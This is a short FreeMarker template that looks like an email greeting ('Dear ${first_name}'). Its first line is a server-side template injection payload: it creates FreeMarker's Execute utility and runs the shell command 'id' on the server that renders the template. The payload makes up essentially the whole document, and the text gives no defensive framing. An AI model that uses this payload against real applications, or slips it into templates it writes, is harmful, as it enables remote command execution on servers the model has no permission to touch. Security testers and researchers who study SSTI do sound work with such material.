<#assign run = "freemarker.template.utility.Execute"?new()>${run("id")}<p>Dear ${first_name}</p>
